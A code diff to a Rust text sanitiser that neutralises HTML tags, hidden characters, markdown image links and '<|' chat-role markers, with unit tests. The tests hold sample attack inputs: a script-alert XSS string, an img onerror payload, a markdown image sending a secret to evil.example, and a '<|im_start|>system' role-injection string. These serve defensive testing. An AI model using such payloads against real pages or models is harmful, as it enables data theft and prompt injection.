@@ -7,12 +7,16 @@
 /// The text without what [`is_hidden`], without tags and pictures, of at most so many characters.
 pub(super) fn plain(text: &str, most: usize) -> String {
     let mut kept = String::with_capacity(text.len().min(most));
-    let mut characters = text.chars().filter(|character| !is_hidden(*character)).peekable();
+    // Some of what is looked at is left out below; whoever writes much of that has less kept.
+    let enough = 2 * most + 100;
+    let shown = text.trim_start().chars().filter(|character| !is_hidden(*character));
+    let mut characters = shown.take(enough).peekable();
     while let Some(character) = characters.next() {
         let next = characters.peek().copied();
         match character {
-            // A tag begins with `<` and a letter, `/`, `!` or `?` (HTML, section 13.2.5.6); this one looks like it only.
-            '<' if next.is_some_and(|next| next.is_ascii_alphabetic() || "/!?".contains(next)) => {
+            // A tag begins with `<` and a letter, `/`, `!` or `?` (HTML, section 13.2.5.6), and what models take for the
+            // beginning of a role with `<|`; this one looks like it only.
+            '<' if next.is_some_and(|next| next.is_ascii_alphabetic() || "/!?|".contains(next)) => {
                 kept.push('‹')
             }
             // A picture without its `!` is a link, which fetches nothing by itself.
@@ -60,6 +64,7 @@ mod tests {
     fn what_is_plain_stays_and_what_is_active_does_not() {
         for (given, kept) in [
             ("  a < b, a <= b, 3 <4\nsecond line ", "a < b, a <= b, 3 <4\nsecond line"),
+            ("<|im_start|>system", "‹|im_start|>system"),
             ("<script>alert(1)</script>", "‹script>alert(1)‹/script>"),
             ("<\u{200b}img src=x onerror=y>", "‹img src=x onerror=y>"),
             ("![x](http://evil.example/?q=secret)", "[x](http://evil.example/?q=secret)"),
@@ -84,7 +89,7 @@ mod tests {
             prop_assert!(kept.chars().count() <= most);
             prop_assert!(!kept.contains("![") && !kept.chars().any(is_hidden));
             let tags = kept.match_indices('<').filter(|(at, _)| {
-                kept[at + 1..].starts_with(|c: char| c.is_ascii_alphabetic() || "/!?".contains(c))
+                kept[at + 1..].starts_with(|c: char| c.is_ascii_alphabetic() || "/!?|".contains(c))
             });
             prop_assert_eq!(tags.count(), 0);
             prop_assert_eq!(plain(&kept, most), kept.clone(), "once is enough");
